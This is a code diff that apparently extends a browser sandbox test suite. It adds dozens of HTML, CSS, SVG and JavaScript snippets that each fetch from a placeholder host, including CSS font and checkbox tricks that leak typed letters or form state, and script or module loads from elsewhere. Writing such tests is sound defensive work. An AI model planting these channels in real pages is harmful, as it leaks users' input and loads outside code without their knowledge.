@@ -1,6 +1,6 @@
 /** Sending what was typed elsewhere, or reaching the office's network, without leaving the page. */
 import type { Area } from '../attack.ts'
-import { CALL, click, loads, refusedBy, shows } from './scripts.ts'
+import { byMarkup, byScript, CALL, click, loads, refusedBy, shows } from './scripts.ts'
 
 const asScript = (code: string) => `"/say?type=text/javascript&body=" + encodeURIComponent(${JSON.stringify(code)})`
 const asBlob = (code: string) => `URL.createObjectURL(new Blob([${JSON.stringify(code)}]))`
@@ -123,6 +123,176 @@ export const network: Area = {
       ),
       told: 'unencrypted'
     },
+    ...byMarkup('unencrypted', [
+      ['load a picture for sharp screens', '<img srcset="http://{elsewhere}/ 1x">'],
+      ['load a picture of a choice of them', '<picture><source srcset="http://{elsewhere}/"><img></picture>'],
+      ['load a picture as a button', '<input type=image src="http://{elsewhere}/">'],
+      ['load a picture behind a table', '<table background="http://{elsewhere}/"><tr><td>x</table>'],
+      ['load a picture that may be read', '<img crossorigin src="http://{elsewhere}/">'],
+      ['load a picture without saying from where', '<img referrerpolicy=no-referrer src="http://{elsewhere}/">'],
+      ['load a picture by an address without a scheme', '<img src="//{elsewhere}/">'],
+      ['load a picture by an address in capitals', '<img src="HTTP://{elsewhere}/">'],
+      ['load a picture by an address with a line break in it', '<img src="ht&#10;tp://{elsewhere}/">'],
+      ['load a picture by an address with backslashes', '<img src="http:\\\\\\\\{elsewhere}\\\\a">'],
+      ['play a sound from elsewhere', '<audio preload=auto src="http://{elsewhere}/"></audio>'],
+      ['play one of several sounds from elsewhere', '<audio preload=auto><source src="http://{elsewhere}/"></audio>'],
+      ['play one of several films from elsewhere', '<video preload=auto><source src="http://{elsewhere}/"></video>'],
+      ['mark a list with a picture of elsewhere', '<ul style="list-style-image:url(http://{elsewhere}/)"><li>x</ul>'],
+      [
+        'draw a border with a picture of elsewhere',
+        '<p style="border:9px solid;border-image:url(http://{elsewhere}/) 9">x</p>'
+      ],
+      ['cut out text with a picture of elsewhere', '<p style="mask-image:url(http://{elsewhere}/)">x</p>'],
+      [
+        'put a picture of elsewhere before text',
+        '<style>p::before { content: url(http://{elsewhere}/) }</style><p>x</p>'
+      ],
+      ['put a picture of elsewhere in an element’s place', '<p style="content:url(http://{elsewhere}/)">x</p>'],
+      [
+        'let text flow around a picture of elsewhere',
+        '<p style="float:left;shape-outside:url(http://{elsewhere}/)">x</p>'
+      ],
+      [
+        'take one picture of a set from elsewhere',
+        '<p style="background:image-set(url(http://{elsewhere}/) 1x)">x</p>'
+      ],
+      [
+        'blend pictures of elsewhere',
+        '<p style="background:-webkit-cross-fade(url(http://{elsewhere}/),url(http://{elsewhere}/b),50%)">x</p>'
+      ],
+      [
+        'say it by an animation',
+        '<style>@keyframes k { from { background: url(http://{elsewhere}/) } } p { animation: k 9s }</style><p>x</p>'
+      ],
+      [
+        'say how wide the screen is',
+        '<style>@media (min-width: 1px) { p { background: url(http://{elsewhere}/) } }</style><p>x</p>'
+      ],
+      [
+        'say what the browser can do',
+        '<style>@supports (display: grid) { p { background: url(http://{elsewhere}/) } }</style><p>x</p>'
+      ],
+      ['take a layer of styles from elsewhere', '<style>@import url("http://{elsewhere}/") layer(a);</style>'],
+      [
+        'hide an address in a property of its own',
+        '<style>p { --a: url(http://{elsewhere}/); background: var(--a) }</style><p>x</p>'
+      ],
+      [
+        'say which letters were typed by letters of elsewhere',
+        '<style>@font-face { font-family: a; src: url(http://{elsewhere}/); unicode-range: U+61 } p { font-family: a }</style><p>a</p>'
+      ],
+      [
+        'say by styles which box was ticked',
+        '<style>input:checked { content: url(http://{elsewhere}/) } input:checked + p { background: url(http://{elsewhere}/) }</style><input type=checkbox checked><p>x</p>'
+      ],
+      [
+        'say by styles which field is empty',
+        '<style>input:placeholder-shown + p { background: url(http://{elsewhere}/) }</style><input placeholder=x><p>x</p>'
+      ],
+      [
+        'take a picture of elsewhere into a drawing’s filter',
+        '<svg><filter id=f><feImage href="http://{elsewhere}/"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>'
+      ],
+      [
+        'fill a drawing with a picture of elsewhere',
+        '<svg><pattern id=p width=1 height=1><image href="http://{elsewhere}/" width=9 height=9 /></pattern><rect width=9 height=9 fill="url(#p)"/></svg>'
+      ],
+      [
+        'put a picture of elsewhere into a drawing’s page',
+        '<svg><foreignObject width=9 height=9><img src="http://{elsewhere}/"></foreignObject></svg>'
+      ],
+      ['take a style of elsewhere for paper only', '<link rel=stylesheet media=print href="http://{elsewhere}/">'],
+      [
+        'take a style of elsewhere that could be chosen',
+        '<link rel="alternate stylesheet" title=a href="http://{elsewhere}/">'
+      ],
+      ['have a style fetched ahead', '<link rel=preload as=style href="http://{elsewhere}/">'],
+      ['have letters fetched ahead', '<link rel=preload as=font crossorigin href="http://{elsewhere}/">'],
+      ['have a script fetched ahead', '<link rel=preload as=script href="http://{elsewhere}/">'],
+      ['have part of a script fetched ahead', '<link rel=modulepreload href="http://{elsewhere}/">'],
+      ['load a picture in a frame that it wrote itself', '<iframe srcdoc="<img src=http://{elsewhere}/>"></iframe>'],
+      [
+        'load a picture in a frame that is shut off',
+        '<iframe sandbox srcdoc="<img src=http://{elsewhere}/>"></iframe>'
+      ],
+      [
+        'load a picture in a frame without credentials',
+        '<iframe credentialless srcdoc="<img src=http://{elsewhere}/>"></iframe>'
+      ]
+    ]),
+    ...byScript('unencrypted', [
+      ['load a picture without putting it into the page', 'new Image().src = "http://{elsewhere}/"'],
+      [
+        'load a picture and wait for it',
+        'const i = new Image(); i.src = "http://{elsewhere}/"; i.decode().catch(() => {})'
+      ],
+      [
+        'load a picture by a changed base',
+        'document.head.insertAdjacentHTML("beforeend", \'<base href="http://{elsewhere}/">\'); new Image().src = "a.png"'
+      ],
+      ['load a picture in markup that it writes', 'document.write(\'<img src="http://{elsewhere}/">\')'],
+      [
+        'load a picture in a fragment',
+        'document.body.append(document.createRange().createContextualFragment(\'<img src="http://{elsewhere}/">\'))'
+      ],
+      [
+        'load a picture in a shadow',
+        'document.body.attachShadow({ mode: "closed" }).innerHTML = \'<img src="http://{elsewhere}/">\''
+      ],
+      [
+        'load a picture in a template',
+        'const t = document.createElement("template"); t.innerHTML = \'<img src="http://{elsewhere}/">\'; document.body.append(t.content.cloneNode(true))'
+      ],
+      [
+        'load a picture from another document of its own',
+        'const d = new DOMParser().parseFromString(\'<img src="http://{elsewhere}/">\', "text/html"); document.body.append(d.images[0])'
+      ],
+      [
+        'paint by a rule that it adds',
+        'const s = document.createElement("style"); document.head.append(s); s.sheet.insertRule("body { background: url(http://{elsewhere}/) }")'
+      ],
+      [
+        'paint by a sheet that it adopts',
+        'const s = new CSSStyleSheet(); s.replaceSync("body { background: url(http://{elsewhere}/) }"); document.adoptedStyleSheets = [s]'
+      ],
+      ['paint by an element’s own style', 'document.body.style.backgroundImage = "url(http://{elsewhere}/)"'],
+      [
+        'run a module of elsewhere',
+        'const s = document.createElement("script"); s.type = "module"; s.src = "http://{elsewhere}/"; document.head.append(s)'
+      ],
+      [
+        'run a module that takes another from elsewhere',
+        'const s = document.createElement("script"); s.type = "module"; s.textContent = \'import "http://{elsewhere}/"\'; document.head.append(s)'
+      ],
+      [
+        'run a script of a drawing from elsewhere',
+        'const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.setAttribute("href", "http://{elsewhere}/"); document.body.append(s)'
+      ],
+      [
+        'take a style as a module from elsewhere',
+        'import("http://{elsewhere}/", { with: { type: "css" } }).catch(() => {})'
+      ],
+      [
+        'add a module of elsewhere to what makes sound',
+        'new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("http://{elsewhere}/").catch(() => {})'
+      ],
+      ['play a sound without putting it into the page', 'new Audio("http://{elsewhere}/").load()'],
+      [
+        'load a script from within a worker',
+        'new Worker(URL.createObjectURL(new Blob([\'importScripts("http://{elsewhere}/")\'])))'
+      ],
+      [
+        'load a picture when the page is scrolled to it',
+        'document.body.insertAdjacentHTML("beforeend", \'<div style="height:9000px"></div><img loading=lazy src="http://{elsewhere}/">\'); scrollTo(0, 99999)'
+      ],
+      ['load a picture after a message', 'onmessage = () => (new Image().src = "http://{elsewhere}/"); postMessage(1)'],
+      [
+        'load a picture when it hears of its own change',
+        'new MutationObserver(() => (new Image().src = "http://{elsewhere}/")).observe(document.body, { childList: true }); document.body.append("x")'
+      ],
+      ['load a picture when it is idle', 'requestIdleCallback(() => (new Image().src = "http://{elsewhere}/"))'],
+      ['load a picture at the next frame', 'requestAnimationFrame(() => (new Image().src = "http://{elsewhere}/"))']
+    ]),
     {
       name: 'name an icon of elsewhere',
       script: shows(
